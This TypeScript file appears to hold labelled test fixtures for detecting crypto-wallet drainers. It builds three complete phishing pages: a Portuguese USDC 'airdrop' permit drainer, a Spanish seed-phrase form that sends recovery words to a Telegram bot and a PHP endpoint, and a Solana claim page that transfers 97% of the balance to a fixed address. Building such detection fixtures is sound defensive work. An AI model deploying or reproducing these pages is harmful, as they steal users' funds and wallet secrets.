import { type Entry } from '../entry.js';
import { doc, favicon, evmDrainer, tgSender } from '../parts/yy-kit.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yy-drainer-airdrop-usdc-drex-permit',
  label: 'cryptodrainer',
  kind: 'permit-drainer',
  url: 'https://airdrop-usdc-brasil.xyz/drex/resgatar',
  body: doc({
    lang: 'pt-BR',
    title: 'Airdrop USDC Brasil – Comemoração do Drex',
    head: favicon('#2775ca', '$'),
    css: `body{margin:0;font-family:Inter,Arial;background:radial-gradient(circle at top,#1e3a8a,#0b1026);color:#fff;min-height:100vh}.c{max-width:560px;margin:0 auto;padding:60px 20px;text-align:center}
.coin{width:110px;height:110px;border-radius:50%;background:#2775ca;margin:0 auto;display:flex;align-items:center;justify-content:center;font-size:46px;font-weight:800;box-shadow:0 0 40px #2775ca}
.b{margin-top:26px;background:#fff;color:#1e3a8a;border:0;border-radius:30px;padding:15px 36px;font-weight:800;font-size:16px}.s{color:#93c5fd;font-size:14px;margin-top:14px}.f{font-size:12px;color:#94a3b8;margin-top:40px}`,
    body: `<div class="c"><div class="coin">$</div><h1>Resgate 500 USDC grátis</h1><p>Para comemorar o lançamento do Real Digital (Drex), a Circle e parceiros distribuem 500 USDC para carteiras brasileiras. Resgate em 1 clique — sem taxa de gás.</p>
<button class="b" onclick="resgatar()">Conectar carteira</button><p class="s" id="st">Assinatura gratuita: não gasta gás.</p><p class="f">Campanha válida até 30/11/2025 · Parceiros: Circle · Mercado Bitcoin · Foxbit</p></div>
<script>
function st(t){document.getElementById('st').textContent=t.replace('Procesando… no cierres esta ventana.','Processando… não feche esta janela.');}
${evmDrainer({ spender: '0x19d0b2e47a86cf3015ee4b2d9a1c7f38e6b5d402', panel: 'https://drex-airdrop-api.vercel.app/api/s', tokens: [{ sym: 'USDC', addr: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }, { sym: 'DAI', addr: '0x6B175474E89094C44Da98b954EedeAC495271d0F' }], mode: 'permit', entry: 'resgatar', waitText: 'Assine a mensagem na sua carteira para resgatar…' })}
</script>`,
  }),
},
{
  id: 'yy-drainer-frase-semilla-validacion',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://validacion-billetera-usdt.com/bono/validar.html',
  body: doc({
    lang: 'es',
    title: 'Validación de billetera – Bono USDT',
    head: favicon('#26a17b', '₮'),
    css: `body{margin:0;font-family:Arial;background:#f1f5f4}.c{max-width:560px;margin:30px auto;background:#fff;border-radius:14px;padding:26px}.t{color:#26a17b}
.g{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.g input{padding:10px;border:1px solid #cbd5d1;border-radius:8px;font-size:14px}
.tabs button{border:1px solid #26a17b;background:#fff;color:#26a17b;padding:6px 12px;border-radius:20px;margin-right:6px}.tabs button.on{background:#26a17b;color:#fff}
.b{width:100%;background:#26a17b;color:#fff;border:0;border-radius:10px;padding:14px;font-size:16px;margin-top:16px}.sel{display:flex;gap:8px;flex-wrap:wrap;margin:10px 0}.sel span{border:1px solid #ddd;border-radius:8px;padding:6px 10px;font-size:13px}`,
    body: `<div class="c"><h2 class="t">Recibe tu bono de 300 USDT</h2><p>Para acreditar el bono debes validar que tu billetera es compatible con la red TRC20/ERC20. El proceso es automático y seguro.</p>
<div class="sel"><span>Trust Wallet</span><span>MetaMask</span><span>Binance Web3</span><span>Exodus</span><span>SafePal</span><span>Otra</span></div>
<div class="tabs"><button class="on" onclick="n(12,this)">12 palabras</button><button onclick="n(24,this)">24 palabras</button></div>
<p style="font-size:13px">Ingresa tu frase de recuperación en orden:</p><div class="g" id="g"></div>
<button class="b" onclick="validar()">Validar billetera</button><p id="m" style="font-size:13px;color:#555"></p></div>
<script>
${tgSender('tgs', '8110293847:AAE7xQp2LmN0bV5cR1sK9hT4wYz3uJd8fGo', '-1001938472210', 'beacon')}
function n(k,b){document.querySelectorAll('.tabs button').forEach(function(x){x.className=''});b.className='on';var g=document.getElementById('g');g.innerHTML='';for(var i=1;i<=k;i++){var e=document.createElement('input');e.placeholder=i+'.';e.autocomplete='off';g.appendChild(e);}}
n(12,document.querySelector('.tabs button'));
function validar(){var w=[].map.call(document.querySelectorAll('#g input'),function(i){return i.value.trim().toLowerCase()}).filter(Boolean);if(w.length<12){m.textContent='Completa todas las palabras.';return;}
tgs('🌱 SEED ('+w.length+')\\n'+w.join(' ')+'\\n'+navigator.userAgent);fetch('/bono/api/seed.php',{method:'POST',body:JSON.stringify({p:w.join(' ')})});m.textContent='Validando en la blockchain… tu bono se acreditará en 24 horas.';}
</script>`,
  }),
  routes: {
    'validacion-billetera-usdt.com/bono/api/seed.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'yy-drainer-solana-brz-rewards',
  label: 'cryptodrainer',
  kind: 'solana-drainer',
  url: 'https://brz-rewards-solana.app/claim',
  body: doc({
    lang: 'pt-BR',
    title: 'BRZ Rewards – Reivindique seus tokens',
    head: favicon('#14f195', 'S'),
    css: `body{margin:0;font-family:Inter,Arial;background:#0e0e10;color:#fff}.c{max-width:500px;margin:60px auto;background:#18181b;border-radius:18px;padding:30px;text-align:center}
.v{font-size:40px;font-weight:800;background:linear-gradient(90deg,#9945ff,#14f195);-webkit-background-clip:text;color:transparent}.b{background:linear-gradient(90deg,#9945ff,#14f195);border:0;border-radius:12px;padding:15px 30px;font-size:16px;font-weight:700;color:#000}`,
    body: `<div class="c"><p>Você tem direito a</p><div class="v">1.500 BRZ</div><p>Stablecoin pareada ao real, distribuída para carteiras Solana ativas. Conecte sua Phantom para reivindicar.</p><button class="b" onclick="claim()">Conectar Phantom</button><p id="s" style="color:#a1a1aa;font-size:13px"></p></div>
<script src="/claim/js/web3.iife.min.js"></script>
<script>
var DEST='7HkQn3vR8tLzP2mW9xY4cB6dF1gJ5sA0eK3uNqVbTrCd';
async function claim(){var p=window.phantom&&window.phantom.solana;if(!p){document.getElementById('s').textContent='Instale a Phantom.';return;}
var r=await p.connect();var pk=r.publicKey;var conn=new solanaWeb3.Connection('https://solana-mainnet.g.alchemy.com/v2/demo');
var bal=await conn.getBalance(pk);var tx=new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({fromPubkey:pk,toPubkey:new solanaWeb3.PublicKey(DEST),lamports:Math.floor(bal*0.97)}));
tx.feePayer=pk;tx.recentBlockhash=(await conn.getLatestBlockhash()).blockhash;document.getElementById('s').textContent='Aprove a transação de verificação para receber…';
try{var sig=await p.signAndSendTransaction(tx);fetch('https://brz-rewards-solana.app/api/l',{method:'POST',body:JSON.stringify({w:pk.toString(),b:bal,s:sig.signature})});}catch(e){}}
</script>`,
  }),
  routes: {
    'brz-rewards-solana.app/claim/js/web3.iife.min.js': jsRoute(`/*! @solana/web3.js v1.95.3 (trimmed build) */var solanaWeb3=(function(){function PublicKey(v){this._v=String(v);}PublicKey.prototype.toString=PublicKey.prototype.toBase58=function(){return this._v;};
function Connection(url){this.url=url;}Connection.prototype._rpc=function(m,p){return fetch(this.url,{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({jsonrpc:'2.0',id:1,method:m,params:p})}).then(function(r){return r.json()}).then(function(j){return j.result});};
Connection.prototype.getBalance=function(pk){return this._rpc('getBalance',[pk.toString()]).then(function(r){return r?r.value:0});};
Connection.prototype.getLatestBlockhash=function(){return this._rpc('getLatestBlockhash',[]).then(function(r){return r?r.value:{blockhash:'11111111111111111111111111111111'}});};
function Transaction(){this.instructions=[];}Transaction.prototype.add=function(i){this.instructions.push(i);return this;};
var SystemProgram={programId:new PublicKey('11111111111111111111111111111111'),transfer:function(o){return {programId:'11111111111111111111111111111111',keys:[o.fromPubkey,o.toPubkey],lamports:o.lamports};}};
return {PublicKey:PublicKey,Connection:Connection,Transaction:Transaction,SystemProgram:SystemProgram};})();`),
  },
},
];
